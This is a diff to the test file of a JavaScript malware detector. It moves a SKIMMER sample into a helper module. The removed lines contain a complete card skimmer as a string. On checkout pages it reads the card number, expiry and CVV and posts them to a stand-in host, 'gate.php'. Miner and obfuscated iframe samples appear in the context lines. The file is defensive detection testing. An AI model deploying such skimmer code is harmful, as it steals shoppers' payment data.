@@ -14,6 +14,7 @@ from malwaresnipper.engine.features import Features
 from malwaresnipper.engine.features.javascript import extract_js_features
 from malwaresnipper.engine.layers.javascript import JavascriptLayer, assess_script, combine
 from malwaresnipper.engine.results import Severity
+from helpers.samples import SKIMMER
 
 
 def _hex(text: str) -> str:
@@ -67,23 +68,6 @@ MINER = (
     "miner.on('found', function () { console.log(miner.getHashesPerSecond()); });\n"
 )
 
-SKIMMER = (
-    "(function () {\n"
-    "  function grab() {\n"
-    "    var data = {\n"
-    "      number: document.querySelector('[name=\"payment[cc_number]\"]').value,\n"
-    "      exp: document.getElementById('cc_exp_month').value,\n"
-    "      cvv: document.getElementById('cc_cid').value\n"
-    "    };\n"
-    "    var x = new XMLHttpRequest();\n"
-    "    x.open('POST', 'https://cdn-analytics.example.net/gate.php', true);\n"
-    "    x.send(btoa(JSON.stringify(data)));\n"
-    "  }\n"
-    "  document.addEventListener('click', function (e) {\n"
-    "    if (location.href.indexOf('checkout') > -1) { grab(); }\n"
-    "  });\n"
-    "})();\n"
-)
 
 ESCAPED_IFRAME = (
     'window["' + _hex("document") + '"]["' + _hex("write") + '"]("' + _hex(
